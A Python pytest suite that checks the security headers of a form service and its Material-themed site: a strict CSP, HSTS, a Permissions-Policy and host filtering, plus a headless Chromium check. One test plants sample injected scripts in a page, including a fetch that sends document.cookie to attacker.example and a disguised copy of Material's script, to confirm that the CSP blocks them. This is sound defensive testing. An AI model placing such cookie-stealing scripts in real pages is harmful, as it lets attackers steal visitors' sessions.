"""Security headers: the strict CSP on service pages, Material's needs on site pages."""

from __future__ import annotations

import http.client
import json
import logging
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
from pydantic import HttpUrl
from starlette.testclient import TestClient

from form_service.security_headers import (
    HSTS,
    SecurityHeaders,
    inline_scripts,
    script_hash,
)
from form_service.settings import Settings
from outreach.loader import LoadedProfile
from tests.conftest import require_tool
from tests.live_server import outreach_serve

from .conftest import code_of, start_client, submit

# The design's CSP for service pages, and connect-src 'self' so that audit tools can read the
# site's robots.txt from a page (tests/browser/test_service_pages.py). Nothing else.
DESIGN_CSP = (
    "default-src 'none'; style-src 'self'; img-src 'self'; connect-src 'self'; "
    "form-action 'self'; frame-ancestors 'none'; base-uri 'none'"
)
DENIED = [
    "camera",
    "microphone",
    "geolocation",
    "payment",
    "usb",
    "interest-cohort",
    "browsing-topics",
    "serial",
    "hid",
    "display-capture",
]
EVERY_RESPONSE = {
    "referrer-policy": "no-referrer",
    "x-content-type-options": "nosniff",
    "cross-origin-opener-policy": "same-origin",
    "cross-origin-resource-policy": "same-origin",
    "strict-transport-security": HSTS,
}
SERVICE_PAGES = ["/report", "/es/report", "/status", "/es/status"]
SITE_PAGES = ["/", "/es/", "/warning-signs/", "/es/warning-signs/", "/partners/"]


def with_agency(loaded: LoadedProfile, **changes: Any) -> LoadedProfile:
    agency = loaded.profile.agency.model_copy(update=changes)
    profile = loaded.profile.model_copy(update={"agency": agency})
    return LoadedProfile(profile=profile, folder=loaded.folder, path=loaded.path)


def directives(csp: str) -> dict[str, list[str]]:
    parsed = {}
    for directive in csp.split(";"):
        name, *values = directive.split()
        parsed[name] = values
    return parsed


def check_common(headers: Any) -> None:
    """The headers every response carries, each exactly once; never a Server header."""
    for name, value in EVERY_RESPONSE.items():
        assert headers.get_list(name) == [value], name
    assert len(headers.get_list("content-security-policy")) == 1
    assert "server" not in headers
    policy = dict(item.strip().split("=", 1) for item in headers["permissions-policy"].split(","))
    for feature in DENIED:
        assert policy.get(feature) == "()", feature
    assert set(policy.values()) == {"()"}, "every listed feature is denied to every origin"


@pytest.fixture
def site_client(make_settings: Callable[..., Settings], demo_site: Path) -> Iterator[TestClient]:
    with start_client(make_settings(site_dir=demo_site)) as client:
        yield client


# -- service pages -------------------------------------------------------------------------


@pytest.mark.parametrize("path", SERVICE_PAGES)
def test_service_pages_get_the_design_csp_and_no_store(client: TestClient, path: str) -> None:
    response = client.get(path)
    assert response.status_code == 200
    assert response.headers["content-security-policy"] == DESIGN_CSP
    assert response.headers.get_list("cache-control") == ["no-store"]
    check_common(response.headers)


def test_the_receipt_page_is_never_cached(client: TestClient) -> None:
    response = submit(client, "/es/report")
    assert response.status_code == 200
    assert code_of(response.text)
    assert response.headers["content-security-policy"] == DESIGN_CSP
    assert response.headers.get_list("cache-control") == ["no-store"]
    check_common(response.headers)


@pytest.mark.parametrize(
    ("method", "path", "body", "status"),
    [
        ("POST", "/report", {"description": "no token"}, None),
        ("POST", "/report", {"description": "x" * 600_000}, 413),
        ("GET", "/xx/report", None, 404),
        ("POST", "/status", {"code": "nonsense"}, None),
    ],
)
def test_service_error_pages_keep_the_strict_headers(
    client: TestClient, method: str, path: str, body: Any, status: int | None
) -> None:
    response = client.request(method, path, data=body)
    assert response.status_code >= 400 if status is None else response.status_code == status
    assert response.headers["content-security-policy"] == DESIGN_CSP
    assert response.headers.get_list("cache-control") == ["no-store"]
    check_common(response.headers)


def test_health_and_form_assets_get_the_strict_csp(client: TestClient) -> None:
    for path in ("/healthz", "/assets-form/form.css"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert response.headers["content-security-policy"] == DESIGN_CSP
        check_common(response.headers)


# -- hosts and HSTS ------------------------------------------------------------------------


def test_unknown_hosts_are_refused_with_the_headers(client: TestClient) -> None:
    response = client.get("/report", headers={"host": "attacker.example"})
    assert response.status_code == 400
    check_common(response.headers)


def test_the_profile_hosts_and_localhost_are_served(
    make_settings: Callable[..., Settings], keyed_demo: LoadedProfile
) -> None:
    loaded = with_agency(keyed_demo, hosts=["tips.harbor-county.example.net"])
    with start_client(make_settings(profile=loaded)) as client:
        for host in (
            "prevent.harbor-county.example.org",
            "tips.harbor-county.example.net",
            "localhost:8000",
            "127.0.0.1:8000",
        ):
            assert client.get("/report", headers={"host": host}).status_code == 200, host
        assert client.get("/report", headers={"host": "example.org"}).status_code == 400


def test_ipv6_loopback_is_served(client: TestClient) -> None:
    assert client.get("/report", headers={"host": "[::1]:8000"}).status_code == 200


def test_no_hsts_when_the_site_url_is_plain_http(
    make_settings: Callable[..., Settings], keyed_demo: LoadedProfile
) -> None:
    loaded = with_agency(keyed_demo, site_url=HttpUrl("http://localhost:8000/"))
    settings = make_settings(profile=loaded)
    # Even when the page renderer would add its own HSTS for an https request.
    with start_client(settings, base_url="https://localhost") as client:
        for path in ("/report", "/"):
            response = client.get(path)
            assert response.status_code == 200
            assert "strict-transport-security" not in response.headers, path
            assert response.headers["referrer-policy"] == "no-referrer"


# -- site pages ----------------------------------------------------------------------------


def script_sources(csp: str) -> list[str]:
    return directives(csp)["script-src"]


def test_the_site_csp_allows_only_this_origin(site_client: TestClient) -> None:
    csp = directives(site_client.get("/").headers["content-security-policy"])
    assert csp["default-src"] == ["'none'"]
    assert csp["script-src"][0] == "'self'"
    assert all(re.fullmatch(r"'sha256-[A-Za-z0-9+/]{43}='", s) for s in csp["script-src"][1:])
    assert csp["style-src"] == ["'self'"]
    assert csp["img-src"] == ["'self'", "data:"]
    assert csp["connect-src"] == ["'self'"]
    assert csp["worker-src"] == ["'self'"]
    assert csp["form-action"] == ["'self'"]
    assert csp["frame-ancestors"] == ["'none'"]
    assert csp["base-uri"] == ["'none'"]
    flat = " ".join(value for values in csp.values() for value in values)
    for loose in ("unsafe-inline", "unsafe-eval", "http:", "https:", "*", "blob:"):
        assert loose not in flat


@pytest.mark.parametrize("path", SITE_PAGES)
def test_every_inline_script_of_a_site_page_is_allowed_by_its_hash(
    site_client: TestClient, path: str
) -> None:
    response = site_client.get(path)
    assert response.status_code == 200
    check_common(response.headers)
    allowed = script_sources(response.headers["content-security-policy"])
    scripts = inline_scripts(response.text)
    assert scripts, "Material pages carry inline scripts; the parser found none"
    for body in scripts:
        assert script_hash(body) in allowed, body[:80]


@pytest.mark.parametrize("path", SITE_PAGES)
def test_site_pages_load_nothing_the_csp_would_block(site_client: TestClient, path: str) -> None:
    html = site_client.get(path).text
    # No inline styles: style-src is 'self' only.
    assert not re.search(r"<style\b", html, re.I)
    assert not re.search(r"\sstyle\s*=", html, re.I)
    assert not re.search(r"\son[a-z]+\s*=", html, re.I), "inline event handlers never run"
    base = f"http://localhost{path}"
    loaded = re.findall(r"<(?:script|img)\b[^>]*\bsrc=\"([^\"]+)\"", html)
    loaded += re.findall(r"<link\b[^>]*\brel=\"(?:stylesheet|icon)\"[^>]*\bhref=\"([^\"]+)\"", html)
    assert loaded
    for url in loaded:
        absolute = urlsplit(urljoin(base, url))
        assert absolute.netloc == "localhost", url
        assert site_client.get(absolute.path).status_code == 200, url


def test_the_search_worker_and_index_come_from_this_origin(site_client: TestClient) -> None:
    for prefix in ("/", "/es/"):
        html = site_client.get(prefix).text
        config = re.search(
            r'<script id="__config" type="application/json">(.*?)</script>', html, re.S
        )
        assert config
        worker = urljoin(f"http://localhost{prefix}", json.loads(config.group(1))["search"])
        assert urlsplit(worker).netloc == "localhost"
        response = site_client.get(urlsplit(worker).path)
        assert response.status_code == 200
        assert "javascript" in response.headers["content-type"]
        # The worker's own CSP (it is served like any site file) lets it import lunr.
        assert "'self'" in script_sources(response.headers["content-security-policy"])
        index = site_client.get(f"{prefix}search/search_index.json")
        assert index.status_code == 200 and index.json()["docs"]


def test_site_404_and_405_keep_the_headers(site_client: TestClient) -> None:
    missing = site_client.get("/no-such-page/")
    assert missing.status_code == 404
    check_common(missing.headers)
    for body in inline_scripts(missing.text):
        assert script_hash(body) in script_sources(missing.headers["content-security-policy"])
    posted = site_client.post("/", data={"a": "b"})
    assert posted.status_code == 405
    check_common(posted.headers)


def test_a_script_written_into_a_page_stays_blocked(
    make_settings: Callable[..., Settings],
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
) -> None:
    material = (
        '__md_scope=new URL("{}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+'
        "_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem("
        't.pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{{try{{t.setItem('
        'a.pathname+"."+e,JSON.stringify(_))}}catch(e){{}}}}'
    )
    genuine = material.format("..")
    disguised = material.format("https://attacker.example/")
    injected = "fetch('https://attacker.example/?'+document.cookie)"
    site = tmp_path / "authored"
    (site / "page").mkdir(parents=True)
    (site / "index.html").write_text(f"<script>{genuine}</script>", encoding="utf-8")
    (site / "page" / "index.html").write_text(
        f"<script>{injected}</script><script>{disguised}</script>"
        '<script type="application/json">{"data": 1}</script>',
        encoding="utf-8",
    )
    caplog.set_level(logging.WARNING, logger="form_service")
    with start_client(make_settings(site_dir=site)) as client:
        allowed = script_sources(client.get("/").headers["content-security-policy"])
    assert allowed == ["'self'", script_hash(genuine)]
    [warning] = [r for r in caplog.records if r.getMessage() == "csp_blocks_inline_script"]
    assert warning.fields == {"pages": 1, "first": "page/index.html"}  # type: ignore[attr-defined]


def test_headers_the_app_set_are_replaced_not_doubled(settings: Settings) -> None:
    async def app(scope: Any, receive: Any, send: Any) -> None:
        await send(
            {
                "type": "http.response.start",
                "status": 200,
                "headers": [
                    (b"Server", b"leaky/1.0"),
                    (b"Content-Security-Policy", b"default-src *"),
                    (b"Strict-Transport-Security", b"max-age=1"),
                    (b"cache-control", b"public, max-age=600"),
                    (b"x-kept", b"yes"),
                ],
            }
        )
        await send({"type": "http.response.body", "body": b"ok"})

    client = TestClient(SecurityHeaders(app, settings), base_url="http://localhost")
    page = client.get("/report")
    assert page.headers.get_list("content-security-policy") == [DESIGN_CSP]
    assert page.headers.get_list("cache-control") == ["no-store"]
    assert page.headers["x-kept"] == "yes"
    check_common(page.headers)
    site = client.get("/index.html")
    assert site.headers["cache-control"] == "public, max-age=600", "site caching is the app's"
    check_common(site.headers)


# -- the real server -----------------------------------------------------------------------


@pytest.mark.server
def test_the_real_server_sends_the_headers_and_no_server_header(
    demo_site: Path, tmp_path: Path
) -> None:
    with outreach_serve(demo_site, tmp_path / "var") as server:
        answers = {}
        for path in ("/", "/report", "/es/warning-signs/"):
            conn = http.client.HTTPConnection(*server.address, timeout=10)
            conn.request("GET", path, headers={"Host": f"localhost:{server.port}"})
            response = conn.getresponse()
            response.read()
            answers[path] = (response.status, response.getheaders())
            conn.close()
    for path, (status, headers) in answers.items():
        assert status == 200, path
        names = [name.lower() for name, _ in headers]
        assert "server" not in names, path
        values = {name.lower(): value for name, value in headers}
        for name, value in EVERY_RESPONSE.items():
            assert names.count(name) == 1 and values[name] == value, (path, name)
        assert "camera=()" in values["permissions-policy"]
    report = dict((n.lower(), v) for n, v in answers["/report"][1])
    assert report["content-security-policy"] == DESIGN_CSP
    assert report["cache-control"] == "no-store"
    home = dict((n.lower(), v) for n, v in answers["/"][1])
    assert "script-src 'self' 'sha256-" in home["content-security-policy"]
    assert "no-store" not in home.get("cache-control", "")


# -- a real browser ------------------------------------------------------------------------

# Run in its own process, so that no event loop of this test session gets in its way.
_CHROMIUM_CHECK = """
import json, sys
from playwright.sync_api import sync_playwright

origin, chromium = sys.argv[1], sys.argv[2]
violations, foreign = [], []
with sync_playwright() as play:
    browser = play.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
    page = browser.new_page()
    page.add_init_script(
        "document.addEventListener('securitypolicyviolation', e => "
        "console.error('CSP-VIOLATION ' + e.violatedDirective + ' ' + e.blockedURI))"
    )
    page.on("console", lambda m: violations.append(m.text)
            if "CSP-VIOLATION" in m.text or "Content Security Policy" in m.text
            or "Permissions-Policy" in m.text else None)
    page.on("request", lambda r: None if r.url.startswith((origin, "data:"))
            else foreign.append(r.url))
    for path in ("/es/", "/es/warning-signs/", "/report", "/no-such-page/"):
        page.goto(origin + path)
        page.wait_for_load_state("networkidle")
    # Material's search: its worker starts, fetches the index and answers.
    page.goto(origin + "/")
    page.wait_for_load_state("networkidle")
    page.keyboard.press("/")
    page.locator("input[data-md-component=search-query]").press_sequentially("warning", delay=50)
    try:
        page.wait_for_selector(".md-search-result__item", timeout=20_000)
        searched = True
    except Exception:
        searched = False
    scripts_ran = page.evaluate("typeof __md_get") == "function"
    browser.close()
print(json.dumps({"violations": violations, "foreign": foreign,
                  "searched": searched, "scripts_ran": scripts_ran}))
"""


@pytest.mark.browser
def test_material_works_under_the_csp_in_chromium(demo_site: Path, tmp_path: Path) -> None:
    chromium = require_tool("/usr/bin/chromium", "the browser suite (Debian package chromium)")
    with outreach_serve(demo_site, tmp_path / "var") as server:
        origin = f"http://127.0.0.1:{server.port}"
        run = subprocess.run(
            [sys.executable, "-c", _CHROMIUM_CHECK, origin, chromium],
            capture_output=True,
            text=True,
            timeout=180,
        )
    assert run.returncode == 0, run.stderr
    seen = json.loads(run.stdout.splitlines()[-1])
    assert seen["scripts_ran"], "Material's inline scripts were blocked"
    assert seen["searched"], "Material's search worker did not answer"
    assert seen["violations"] == []
    assert seen["foreign"] == []


def test_an_onion_service_is_announced_and_answered_when_the_profile_has_one(
    make_settings: Callable[..., Settings], keyed_demo: LoadedProfile
) -> None:
    host = "b3" * 28 + ".onion"
    with start_client(make_settings()) as plain:
        assert "onion-location" not in plain.get("/report").headers
    onion = with_agency(keyed_demo, onion_url=f"http://{host}/")
    with start_client(make_settings(profile=onion)) as client:
        assert client.get("/es/report").headers["onion-location"] == f"http://{host}/es/report"
        assert client.get("/").headers["onion-location"] == f"http://{host}/"
        # Tor hands visitors over with the onion host name: the service answers to it.
        assert client.get("/report", headers={"host": host}).status_code == 200
